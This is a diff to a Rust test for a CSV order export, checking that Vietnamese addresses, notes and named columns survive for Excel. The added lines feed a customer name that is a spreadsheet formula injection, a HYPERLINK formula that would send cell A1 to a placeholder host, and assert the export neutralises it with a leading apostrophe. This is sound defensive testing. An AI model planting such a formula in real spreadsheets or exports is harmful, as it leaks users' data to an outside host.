@@ -370,6 +370,9 @@ async fn orders_as_csv_open_in_excel_with_their_vietnamese_and_named_columns() {
             "Số 5, ngõ 12, Đống Đa, Hà Nội",
             "--note",
             "Giao giờ hành chính",
+            // A name a buyer (or a prank) could give, that Excel would run as a formula.
+            "--name",
+            "=HYPERLINK(\"http://x.example/?\"&A1,\"Lan\")",
         ],
     )
     .await;
@@ -394,6 +397,11 @@ async fn orders_as_csv_open_in_excel_with_their_vietnamese_and_named_columns() {
     assert_eq!(field("total"), "450000");
     assert_eq!(field("cod_amount"), "450000");
     assert_eq!(field("note"), "Giao giờ hành chính");
+    assert_eq!(
+        field("customer"),
+        "'=HYPERLINK(\"http://x.example/?\"&A1,\"Lan\")",
+        "read as text, not run"
+    );
 }
 
 #[tokio::test]
